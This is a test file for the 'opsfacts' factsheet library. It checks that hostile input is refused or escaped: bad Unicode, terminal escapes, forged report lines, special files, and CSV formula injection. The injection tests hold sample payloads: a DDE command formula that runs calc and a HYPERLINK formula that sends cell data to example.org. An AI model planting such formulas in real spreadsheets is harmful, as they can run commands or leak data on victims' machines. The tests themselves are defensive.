"""Hostile input: the library returns or raises an OpsfactsError, outputs are UTF-8, reports stay one line
per finding, what is dumped loads again, and CSV cells never start a formula.

The fast seeded suite draws its cases from ``benchmarks/hostile.py``, as the long campaign
(``benchmarks/fuzz_campaign.py``) does; each failure signature the campaign found has a
regression test below, from its saved reproducer.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import random
import stat
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import opsfacts
from conftest import CORRECTED, REPO
from opsfacts.diagnostics import Finding, Severity
from opsfacts.errors import InvalidDocument
from opsfacts.render import render_html, render_markdown
from opsfacts.schema import bundled_schema
from opsfacts.strategies import factsheets
from opsfacts.tables import FORMULA_START, TABLE_NAMES, table, tables, write_csv
from opsfacts.validation import FileReport, Report, render, validate

sys.path.insert(0, str(REPO / "benchmarks"))
import hostile  # the case generators live beside the campaign

# About 1,700 cases; the categories that render a whole factsheet are the slow ones.
CASES = {
    "random-bytes": 600,
    "random-json": 400,
    "model-extremes": 60,
    "example-mutation": 100,
    "text-mutation": 200,
    "yaml-special": 300,
    "output-strings": 60,
}


def _example() -> dict[str, Any]:
    return copy.deepcopy(json.loads(CORRECTED.read_text(encoding="utf-8")))


def _problems(data: dict[str, Any]) -> list[tuple[str, str]]:
    with pytest.raises(InvalidDocument) as caught:
        opsfacts.from_dict(data)
    return [(p.path, p.message) for p in caught.value.problems]


# --- the fast seeded suite -------------------------------------------------------------------


@pytest.mark.parametrize("category", hostile.CATEGORIES)
def test_seeded_hostile_cases_keep_the_invariant(category: str) -> None:
    failures = []
    for index in range(CASES[category]):
        case = hostile.make_case(category, random.Random(f"suite:{category}:{index}"))
        signature = hostile.run_case(case, yaml_every=4)
        if signature is not None:
            failures.append((index, case.name, signature))
    assert failures == []


def test_every_hostile_string_in_every_text_field_of_the_example() -> None:
    data = _example()
    for index, text in enumerate(hostile.HOSTILE_STRINGS[:22]):
        mutated = copy.deepcopy(data)
        mutated["operation"]["name"] = text
        mutated["populations"]["groups"][0]["label"] = text
        mutated[text] = 1
        case = hostile.Case("output-strings", f"string {index}", hostile._json_text(mutated))
        assert hostile.run_case(case) is None, text


# --- text is valid, printable Unicode --------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("lone \ud800 surrogate", "a lone surrogate (U+D800, not a Unicode character) at character 6"),
        ("\udcff", "a lone surrogate (U+DCFF, not a Unicode character) at character 1"),
        ("nul\x00byte", "a control character (U+0000) at character 4"),
        ("esc \x1b[31m", "a control character (U+001B) at character 5"),
        ("nel\x85here", "a line separator (U+0085) at character 4"),
        ("line\u2028separator", "a line separator (U+2028) at character 5"),
        ("cr\rhere", "a line separator (U+000D) at character 3"),
    ],
)
def test_unicode_error_text_refused_at_its_path(text: str, said: str) -> None:
    data = _example()
    data["populations"]["groups"][0]["label"] = text
    assert _problems(data) == [("$.populations.groups[0].label", f"must be printable text, but holds {said}")]


def test_line_break_in_one_line_text_refused_but_allowed_in_a_paragraph() -> None:
    data = _example()
    data["title"] = "Mali\nFactsheet"
    assert _problems(data) == [
        (
            "$.title",
            "must be one line of text, but holds a line break (U+000A) at character 5; only paragraphs may",
        )
    ]
    data = _example()
    data["sections"][0]["paragraphs"][0] = "First line\nsecond line\twith a tab"
    data["footnotes"][0]["text"] = "A note\non two lines"
    factsheet = opsfacts.from_dict(data)
    assert factsheet.sections[0].paragraphs[0] == "First line\nsecond line\twith a tab"


def test_schema_pattern_says_what_the_model_says_about_text() -> None:
    from jsonschema import Draft202012Validator

    validator = Draft202012Validator(bundled_schema())
    for text, valid in [
        ("Mali", True),
        ("a\tb", True),
        ("a\nb", False),
        ("a\u2028b", False),
        ("\ud800", False),
        ("x\x7f", False),
        ("   ", False),
    ]:
        data = _example()
        data["title"] = text
        assert validator.is_valid(data) is valid, repr(text)
    data = _example()
    data["sections"][0]["paragraphs"][0] = "a\nb"
    assert validator.is_valid(data)
    data["sections"][0]["paragraphs"][0] = "a\rb"
    assert not validator.is_valid(data)


# --- reports: one line per finding, valid UTF-8 ------------------------------------------------


def Entry(
    code: str, message: str, *, path: str = "", line: int | None = None, column: int | None = None
) -> Finding:
    """A report entry: an error finding at a position."""
    return Finding(code, Severity.ERROR, path, (), message, line=line, column=column)


def _report(*entries: Finding, file: str = "case.json") -> Report:
    return Report((FileReport(file, entries),))


@pytest.mark.parametrize("separator", ["\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c"])
def test_text_report_multiline_finding_is_one_line(separator: str) -> None:
    forged = f"x{separator}case.json:1:1: OPS001 error $: forged"
    report = _report(Entry("OPS004", f"unknown key {forged!r}", path=f"$['{forged}']", line=3, column=2))
    lines = render(report, "text").splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("case.json:3:2: OPS004 error $['x\\")
    assert "forged" in lines[0]


def test_text_report_escapes_terminal_escapes_and_file_names() -> None:
    report = _report(Entry("OPS005", "red \x1b[31m"), file="a\nb.json")
    assert render(report, "text").splitlines()[0] == "a\\x0ab.json: OPS005 error red \\x1b[31m"


def test_non_utf8_file_name_unicode_encode_error_in_every_format() -> None:
    name = os.fsdecode(b"bad\xff.json")  # as Python gives a non-UTF-8 name: a lone surrogate
    report = _report(Entry("OPS000", "no such file"), file=name)
    outputs = {fmt: render(report, fmt) for fmt in ("text", "json", "github", "sarif")}
    for text in outputs.values():
        text.encode("utf-8")
    assert json.loads(outputs["json"])["files"][0]["file"] == "bad\\udcff.json"
    sarif = json.loads(outputs["sarif"])
    assert sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == (
        "bad%FF.json"
    )


def test_document_with_surrogate_key_reports_in_utf8() -> None:
    text = '{"format_version": "2.0", "\\ud800\\n::error::x": 1}'
    case = hostile.Case("regression", "surrogate key", text.encode())
    assert hostile.run_case(case) is None


# --- numbers: every value the model accepts is printed ----------------------------------------


@pytest.mark.parametrize(
    ("requested", "funded", "funded_percent"),
    [
        ("1234567890123456789012345678901", "1", "0.0000001"),
        ("9999999999999999999999999999999.9999999", "0.0000001", "99.9999999"),
        ("0.0000001", "1234567890123456789012345678901", "1"),
        ("1" + "0" * 400, "1", "1"),
        ("0." + "0" * 60 + "1", "1", "1"),
    ],
)
def test_pages_print_decimal_invalid_operation(requested: str, funded: str, funded_percent: str) -> None:
    data = _example()
    funding = data["funding"]
    funding.pop("unfunded")
    funding.update(requested={"value": requested}, funded={"value": funded}, funded_percent=funded_percent)
    factsheet = opsfacts.from_dict(data)
    assert f"{funded_percent}%" in render_markdown(factsheet)
    assert "<svg" in render_html(factsheet)


def test_chart_of_huge_counts_overflow_error() -> None:
    data = _example()
    data["populations"]["groups"][0]["count"] = 10**309
    data["populations"]["groups"][1]["count"] = 1
    html = render_html(opsfacts.from_dict(data))
    assert 'data-count="1' + "0" * 309 + '"' in html


def test_dumped_tiny_decimal_loads_again_not_exponent() -> None:
    # Written "1.196E-9" by str(Decimal), which the format does not read.
    data = _example()
    data["funding"]["funded_percent"] = "0.000000001196"
    factsheet = opsfacts.from_dict(data)
    text = opsfacts.dumps(factsheet)
    assert json.loads(text)["funding"]["funded_percent"] == "0.000000001196"
    assert opsfacts.loads(text) == factsheet
    assert opsfacts.loads(opsfacts.dumps(factsheet, syntax="yaml"), syntax="yaml") == factsheet


_EXTREME_DECIMALS = st.builds(
    lambda digits, places: Decimal(digits).scaleb(-places),
    st.integers(min_value=0, max_value=10**31),
    st.integers(min_value=0, max_value=12),
)


@settings(max_examples=40, derandomize=True)
@given(factsheet=factsheets(), count=st.integers(min_value=0, max_value=10**400), amount=_EXTREME_DECIMALS)
def test_dumped_extreme_documents_load_again(
    factsheet: opsfacts.Factsheet, count: int, amount: Decimal
) -> None:
    data = opsfacts.to_dict(factsheet)
    funding = data.get("funding") or {"currency": "USD"}
    funding.update(requested={"value": format(amount, "f")}, funded_percent=format(amount, "f"))
    data["funding"] = funding
    data["populations"] = {"groups": [{"label": "Refugees", "count": count}]}
    extreme = opsfacts.from_dict(data)
    for syntax in ("json", "yaml"):
        assert opsfacts.loads(opsfacts.dumps(extreme, syntax=syntax), syntax=syntax) == extreme


# --- $schema is checked before any file is looked at --------------------------------------------


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("a" * 5000, "$schema is 5,000 characters long; a schema URI or file path has at most 1,024"),
        ("schema\x00.json", "$schema holds a control character (U+0000); it must be a URI or a file path"),
        ("x\ny.json", "$schema holds a control character (U+000A); it must be a URI or a file path"),
    ],
)
def test_schema_reference_os_error_is_ops007(tmp_path: Path, value: str, said: str) -> None:
    data = _example()
    data["$schema"] = value
    path = tmp_path / "doc.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    entries = [e for f in validate([path], checks=False).files for e in f.entries]
    assert [(e.path, e.message) for e in entries if e.code == "OPS007"] == [("$['$schema']", said)]


def test_schema_reference_with_too_long_component_is_ops007(tmp_path: Path) -> None:
    data = _example()
    data["$schema"] = "x" * 300 + ".json"
    path = tmp_path / "doc.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    (entry,) = [e for f in validate([path], checks=False).files for e in f.entries]
    assert entry.code == "OPS007"
    assert entry.message == "$schema cannot be used as a file path: File name too long"


# --- special files and paths on the command line -----------------------------------------------


def _opsfacts(*args: str, stdin: Any = subprocess.DEVNULL, cwd: Path | None = None) -> tuple[int, str, str]:
    done = subprocess.run(
        [sys.executable, "-m", "opsfacts", *args],
        stdin=stdin,
        capture_output=True,
        cwd=cwd,
        timeout=120,
        check=False,
    )
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8", "backslashreplace")


def _one_line_error(stderr: str) -> str:
    assert "Traceback" not in stderr
    lines = [line for line in stderr.splitlines() if line]
    assert len(lines) == 1, stderr
    return lines[0]


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this system")
    path = tmp_path / "fifo.json"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("command", [["validate"], ["render", "--to", "md"], ["convert", "--to", "yaml"]])
def test_cli_fifo_without_writer_hangs(fifo: Path, command: list[str]) -> None:
    status, out, err = _opsfacts(*command, str(fifo))
    assert status == 2
    message = f"{fifo}: error: is not a regular file (a FIFO, a device or a socket); it is not read"
    if command == ["validate"]:
        assert (
            out.splitlines()[0]
            == f"{fifo}: OPS000 error is not a regular file (a FIFO, a device or a socket); it is not read"
        )
    else:
        assert _one_line_error(err) == message


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero on this system")
def test_cli_dev_zero_endless_read() -> None:
    status, _, err = _opsfacts("render", "--to", "md", "/dev/zero")
    assert status == 2
    assert (
        _one_line_error(err)
        == "/dev/zero: error: is not a regular file (a FIFO, a device or a socket); it is not read"
    )


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero on this system")
def test_cli_endless_stdin_is_capped() -> None:
    with open("/dev/zero", "rb") as zero:
        status, _, err = _opsfacts("render", "--to", "md", "-", stdin=zero)
    assert status == 2
    assert _one_line_error(err) == "<stdin>: error: more than 16,777,216 bytes; the limit is 16,777,216"


def test_cli_closed_stdin_attribute_error() -> None:
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            "import os, sys; os.close(0); sys.argv[1:] = ['validate', '-']; "
            "from opsfacts.cli import main; sys.exit(main())",
        ],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 2
    assert done.stdout.decode().splitlines()[0] == "<stdin>: OPS000 error standard input is closed"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full on this system")
@pytest.mark.parametrize("command", [["validate"], ["render", "--to", "md"], ["convert", "--to", "json"]])
def test_cli_full_stdout_os_error(command: list[str]) -> None:
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            [sys.executable, "-m", "opsfacts", *command, str(CORRECTED)],
            stdout=full,
            stderr=subprocess.PIPE,
            timeout=120,
            check=False,
        )
    assert done.returncode == 2
    assert _one_line_error(done.stderr.decode()) == (
        f"opsfacts {command[0]}: error: standard output: No space left on device"
    )


def test_cli_symlink_loops_in_a_glob(tmp_path: Path) -> None:
    (tmp_path / "loop1.json").symlink_to("loop2.json")
    (tmp_path / "loop2.json").symlink_to("loop1.json")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "up").symlink_to("..")
    (tmp_path / "d" / "doc.json").write_text(CORRECTED.read_text(encoding="utf-8"), encoding="utf-8")
    status, out, _ = _opsfacts("validate", "--no-checks", "loop*.json", "d/**/*.json", cwd=tmp_path)
    assert status == 2
    lines = out.splitlines()
    assert lines[:2] == [
        "loop1.json: OPS000 error Too many levels of symbolic links",
        "loop2.json: OPS000 error Too many levels of symbolic links",
    ]
    assert lines[-1] == "3 files checked, 1 valid (2 errors)"


@pytest.mark.parametrize(
    "name", ["x" * 300 + ".json", "/".join(["abc"] * 1500) + ".json"], ids=["long-component", "long-path"]
)
def test_cli_name_too_long_os_error(tmp_path: Path, name: str) -> None:
    status, out, err = _opsfacts("validate", name, cwd=tmp_path)
    assert status == 2
    assert "Traceback" not in err
    assert out.splitlines()[0] == f"{name}: OPS000 error File name too long"
    status, _, err = _opsfacts("render", "--to", "md", name, cwd=tmp_path)
    assert status == 2
    assert _one_line_error(err) == f"{name}: error: File name too long"


def test_cli_unreadable_file(tmp_path: Path) -> None:
    path = tmp_path / "secret.json"
    path.write_text("{}", encoding="utf-8")
    path.chmod(0)
    try:
        if os.access(path, os.R_OK):
            pytest.skip("this user reads every file (root)")
        status, _, err = _opsfacts("render", "--to", "md", str(path))
    finally:
        path.chmod(stat.S_IRUSR | stat.S_IWUSR)
    assert status == 2
    assert _one_line_error(err) == f"{path}: error: permission denied"


def test_cli_vanished_file(tmp_path: Path) -> None:
    (tmp_path / "gone.json").symlink_to(tmp_path / "nowhere.json")
    status, _, err = _opsfacts("render", "--to", "md", "gone.json", cwd=tmp_path)
    assert status == 2
    assert _one_line_error(err) == "gone.json: error: no such file"


def test_cli_non_utf8_file_name_unicode_encode_error(tmp_path: Path) -> None:
    name = os.fsdecode(b"bad\xff.json")
    try:
        (tmp_path / name).write_text('{"format_version": "2.0"}', encoding="utf-8")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    for fmt in ("text", "json", "github", "sarif"):
        status, out, err = _opsfacts("validate", "--no-checks", "--format", fmt, name, cwd=tmp_path)
        assert (status, err) == (1, ""), fmt
        assert "udcff.json" in out or "bad%FF.json" in out, fmt


# --- CSV formula injection ------------------------------------------------------------------------

_FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
]


def _injected() -> opsfacts.Factsheet:
    data = _example()
    data["populations"]["groups"][0]["label"] = _FORMULAS[0]
    data["populations"]["groups"][0]["source"] = _FORMULAS[1]
    data["populations"]["groups"][0]["place"] = _FORMULAS[2]
    data["partners"]["partners"][0]["name"] = _FORMULAS[3]
    data["donors"]["major"][0]["name"] = _FORMULAS[4]
    return opsfacts.from_dict(data)


def _cells(name: str, factsheet: opsfacts.Factsheet, *, raw: bool = False) -> list[list[str]]:
    buffer = io.StringIO()
    write_csv(table(name, factsheet), buffer, hxl=True, raw=raw)
    return list(csv.reader(io.StringIO(buffer.getvalue())))


def test_csv_formula_injection_cells_get_a_quote() -> None:
    factsheet = _injected()
    populations = _cells("populations", factsheet)
    header = populations[0]
    first = dict(zip(header, populations[2], strict=True))
    assert first["label"] == "'" + _FORMULAS[0]
    assert first["source"] == "'" + _FORMULAS[1]
    assert first["place"] == "'" + _FORMULAS[2]
    partners = _cells("partners", factsheet)
    assert "'" + _FORMULAS[3] in partners[2]
    donors = _cells("donors", factsheet)
    assert "'" + _FORMULAS[4] in donors[2]
    for name in TABLE_NAMES:
        for row in _cells(name, factsheet)[2:]:
            assert not any(cell.startswith(FORMULA_START) for cell in row), name


def test_csv_raw_keeps_formulas_and_numbers_never_change() -> None:
    factsheet = _injected()
    header, _, row = _cells("populations", factsheet, raw=True)[:3]
    raw = dict(zip(header, row, strict=True))
    assert raw["label"] == _FORMULAS[0]
    defused = dict(zip(header, _cells("populations", factsheet)[2], strict=True))
    numbers = {k: v for k, v in raw.items() if v.isdigit()}
    assert numbers
    assert all(defused[k] == v for k, v in numbers.items())


def test_cli_convert_csv_defuses_unless_raw(tmp_path: Path) -> None:
    path = tmp_path / "doc.json"
    path.write_text(opsfacts.dumps(_injected()), encoding="utf-8")
    status, out, _ = _opsfacts("convert", "--to", "csv", "--table", "donors", str(path))
    assert status == 0
    assert f'"\'{_FORMULAS[4]}"' in out or f"'{_FORMULAS[4]}" in out
    status, out, _ = _opsfacts("convert", "--to", "hxl", "--table", "donors", "--raw-csv", str(path))
    assert status == 0
    assert f",{_FORMULAS[4]}," in out


def test_every_table_of_the_example_is_unchanged_by_the_defusing() -> None:
    factsheet = opsfacts.load(CORRECTED)
    for name, found in tables(factsheet).items():
        defused, raw = io.StringIO(), io.StringIO()
        write_csv(found, defused)
        write_csv(found, raw, raw=True)
        assert defused.getvalue() == raw.getvalue(), name
